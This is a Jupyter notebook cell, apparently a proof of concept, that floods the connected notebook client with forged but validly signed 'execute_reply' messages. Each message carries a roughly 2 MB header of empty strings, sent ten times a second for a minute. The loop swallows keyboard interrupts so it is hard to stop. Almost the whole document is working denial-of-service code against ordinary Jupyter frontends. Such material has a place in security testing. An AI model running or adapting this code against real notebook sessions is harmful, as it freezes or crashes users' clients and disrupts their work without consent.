# %% [markdown]
# # **denial: sends little that takes long to read**
#
# Ten times a second comes a reply to nobody. What it says of the request is two megabytes of empty
# texts, through which a client goes one by one to look for dates.

# %%
import time

kernel = get_ipython().kernel
session, socket = kernel.session, kernel.shell_stream.socket
parent = b'{"msg_id":"nobody","x":[' + b'"",' * 600_000 + b'""]}'
end = time.time() + 60
while time.time() < end:
    try:
        parts = [session.pack(session.msg_header("execute_reply")), parent, b"{}", b"{}"]
        signed = [session.sign(parts), *parts]
        socket.send_multipart([*kernel._parent_ident["shell"], b"<IDS|MSG>", *signed], copy=False)
        time.sleep(0.1)
    except (KeyboardInterrupt, MemoryError):
        pass
